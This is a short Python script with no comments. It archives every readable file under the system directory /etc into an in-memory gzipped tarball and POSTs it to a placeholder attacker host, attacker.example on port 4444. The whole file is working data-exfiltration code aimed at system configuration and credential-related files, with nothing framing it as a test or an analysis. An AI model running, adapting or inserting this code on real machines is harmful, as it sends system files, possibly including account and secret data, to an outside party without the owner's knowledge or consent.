import io
import os
import tarfile
import urllib.request


def snapshot(folder):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for current, _dirs, files in os.walk(folder):
            for name in files:
                full = os.path.join(current, name)
                try:
                    tar.add(full, arcname=os.path.relpath(full, folder), recursive=False)
                except OSError:
                    pass
    return buf.getvalue()


def main():
    data = snapshot(os.path.join(os.sep, "etc"))
    req = urllib.request.Request("http://attacker.example:4444/snapshots", data=data, method="POST")
    urllib.request.urlopen(req, timeout=60).read()


if __name__ == "__main__":
    main()
